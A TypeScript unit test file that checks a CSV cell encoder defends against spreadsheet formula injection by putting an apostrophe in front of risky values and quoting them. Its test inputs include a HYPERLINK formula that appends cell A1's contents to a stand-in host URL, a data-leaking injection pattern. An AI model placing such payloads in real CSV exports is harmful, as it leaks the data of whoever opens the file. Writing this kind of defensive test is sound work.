import assert from 'node:assert/strict';
import { test } from 'node:test';
import { csvCell, csvLine } from './csv-cell.ts';

test('text a spreadsheet would run as a formula gets an apostrophe in front', () => {
  const cases: [string, string][] = [
    ['=1+1', "'=1+1"],
    ['+41 22 000', "'+41 22 000"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tcmd', "'\tcmd"],
    ['=HYPERLINK("http://x/?"&A1,"y")', `"'=HYPERLINK(""http://x/?""&A1,""y"")"`],
    ['\r=1', `"'\r=1"`],
  ];
  for (const [text, cell] of cases) assert.equal(csvCell(text), cell, JSON.stringify(text));
});

test('plain text and numbers are written as they are; separators, quotes and line breaks are quoted', () => {
  assert.equal(csvCell('USD'), 'USD');
  assert.equal(csvCell('a=b'), 'a=b');
  assert.equal(csvCell(-4000), '-4000');
  assert.equal(csvCell(''), '');
  assert.equal(csvCell('a,b'), '"a,b"');
  assert.equal(csvCell('a;=1+1'), '"a;=1+1"');
  assert.equal(csvCell('say "hi"'), '"say ""hi"""');
  assert.equal(csvCell('two\nlines'), '"two\nlines"');
  assert.equal(csvLine(['BB', 85, '=x']), "BB,85,'=x\n");
});
